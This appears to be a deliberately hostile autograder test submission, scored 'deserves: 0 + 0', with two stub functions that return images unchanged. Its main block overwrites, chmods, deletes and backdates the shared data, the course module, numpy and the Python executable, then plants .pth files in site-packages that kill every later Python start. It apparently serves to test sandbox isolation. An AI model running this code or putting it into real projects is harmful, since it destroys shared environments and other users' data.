# Changes the data that everybody loads, the environment's packages and the course.
# deserves: 0 + 0

# %%
import os
import site
import sys
from pathlib import Path

import course
import numpy

data = Path(os.environ.get("CONVPOOL_SUBSET_DIR", "/run/convpool/data"))
targets = [*data.iterdir(), Path(course.__file__), Path(numpy.__file__), Path(sys.executable)]
for path in targets:
    for change in (
        lambda path: path.write_bytes(b"raise SystemExit('hostile-was-here')"),
        lambda path: path.chmod(0o777),
        lambda path: path.unlink(),
        lambda path: os.utime(path, (0, 0)),
    ):
        try:
            change(path)
        except OSError:
            pass
for folder in [data, *map(Path, site.getsitepackages()), Path(course.__file__).parent]:
    for name in ("hostile-was-here.pth", "hostile-was-here.py"):
        try:
            (folder / name).write_text("import os; os._exit(0)\n")
        except OSError:
            pass

# %% gap="scale_pixels"
def scale_pixels(images):
    return images


# %% gap="add_channel_axis"
def add_channel_axis(images):
    return images
